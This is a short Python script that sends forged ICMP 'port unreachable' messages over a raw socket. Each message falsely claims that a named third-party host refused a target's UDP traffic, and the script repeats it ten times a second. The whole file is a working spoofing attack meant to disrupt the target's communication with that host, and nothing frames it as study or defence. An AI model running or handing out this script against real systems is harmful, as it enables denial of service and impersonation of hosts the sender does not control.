#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""forged_icmp.py ADDRESS PORT HOST HOST_PORT TIMES: "port unreachable" (RFC 792) to ADDRESS, as if
HOST had refused what was sent there from PORT; ten a second, from somebody who is not HOST."""
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def main():
    address, port, host, host_port, times = sys.argv[1:]
    refused = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 1344, 1, 0, 64, socket.IPPROTO_UDP, 0,
                          socket.inet_aton(address), socket.inet_aton(host))
    refused += struct.pack("!HHHH", int(port), int(host_port), 1324, 0)
    body = struct.pack("!I", 0) + refused
    packet = struct.pack("!BBH", 3, 3, checksum(struct.pack("!BBH", 3, 3, 0) + body)) + body
    door = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    for _ in range(int(times)):
        door.sendto(packet, (address, 0))
        time.sleep(0.1)


main()
